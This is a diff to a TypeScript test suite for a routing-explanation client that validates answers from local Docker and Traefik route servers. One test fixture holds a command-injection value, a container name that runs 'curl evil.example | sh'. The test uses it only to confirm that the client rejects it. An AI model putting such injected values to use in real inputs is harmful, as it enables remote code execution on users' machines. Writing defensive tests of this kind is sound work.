@@ -20,7 +20,36 @@ afterEach(async () => {
   rmSync(folder, { recursive: true, force: true })
 })
 
-const factsOf = (name: string) => ({ containers: [{ name, daemon: '/tmp/docker-64.sock' }] })
+const CONTAINER = {
+  id: 'a'.repeat(64),
+  image: 'web',
+  network: 64,
+  daemon: '/tmp/docker-64.sock',
+  created: '2026-01-02T03:04:05.000Z',
+  state: 'running',
+  status: 'Up',
+  health: 'none',
+  networkMode: 'host',
+  presence: 'serving',
+  labels: [],
+  made: [],
+  served: [],
+  diagnostics: [],
+}
+
+const factsOf = (name: string) => ({
+  question: { text: 'web' },
+  traefikApi: 'http://127.0.0.1:9000',
+  runsForSeconds: 1,
+  document: { revision: 1, secondsOld: 1 },
+  fetches: {},
+  containers: [{ ...CONTAINER, name }],
+  routers: [],
+  more: 0,
+  claims: [],
+  daemons: [],
+  notices: [],
+})
 
 async function answering(at: string | number, status: number, body: object): Promise<Server> {
   const server = createServer((_, response) => response.writeHead(status).end(JSON.stringify(body)))
@@ -31,15 +60,16 @@ async function answering(at: string | number, status: number, body: object): Pro
 
 const socket = (): string => join(folder, 'control.sock')
 
-async function namePort(): Promise<void> {
-  const server = await answering(0, 200, { facts: factsOf('of the port') })
+async function namePort(status: number, body: object): Promise<void> {
+  const server = await answering(0, status, body)
   process.env['REDIACC_ROUTER'] = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
 }
 
 test('the private socket is asked, and its daemons are believed', async () => {
-  await answering(socket(), 200, { facts: factsOf('of the socket') })
+  await answering(socket(), 200, { facts: factsOf('of-the-socket') })
   expect(await askAbout('/explain?about=web', folder)).toEqual({
-    facts: factsOf('of the socket'),
+    facts: factsOf('of-the-socket'),
+    traefikApi: 'http://127.0.0.1:9000',
     daemons: ['/tmp/docker-64.sock'],
   })
 })
@@ -49,8 +79,31 @@ test('what it refuses is said, and nobody else is asked', async () => {
   await expect(askAbout('/explain?about=web', folder)).rejects.toThrow('There is no such thing.')
 })
 
-test('of whoever answers at the port no daemon is believed', async () => {
-  await answering(socket(), 200, { facts: factsOf('of the socket') })
-  await namePort()
-  expect(await askAbout('/explain?about=web', folder)).toEqual({ facts: factsOf('of the port'), daemons: [] })
+test('on the word of whoever answers at the port nobody is asked: no daemon, and no API', async () => {
+  await answering(socket(), 200, { facts: factsOf('of-the-socket') })
+  await namePort(200, { facts: factsOf('of-the-port') })
+  expect(await askAbout('/explain?about=web', folder)).toEqual({ facts: factsOf('of-the-port'), daemons: [] })
+})
+
+test.each([
+  ['something else', { hello: 'world' }],
+  ['no list of containers', { facts: { ...factsOf('web'), containers: 1 } }],
+  ['a name that would be a command', { facts: factsOf('web; curl evil.example | sh') }],
+  [
+    'a socket that would be one',
+    { facts: { ...factsOf('web'), containers: [{ ...CONTAINER, name: 'web', daemon: '/a b' }] } },
+  ],
+])('whoever answers at the port with %s is no route server', async (_, body) => {
+  await namePort(200, body)
+  await expect(askAbout('/explain?about=web', folder)).rejects.toThrow(
+    /^Whoever answers at http:\S+ is no route server/,
+  )
+})
+
+test('where the token is wanted, it says where that is and what needs none', async () => {
+  await namePort(401, {})
+  const path = '/explain?about=web&look=no'
+  await expect(askAbout(path, folder)).rejects.toThrow(
+    /without its token.*sudo renet explain.*\/opt\/rediacc\/current\/secrets\/routes-token.*explain\?about=web&format=text'$/s,
+  )
 })
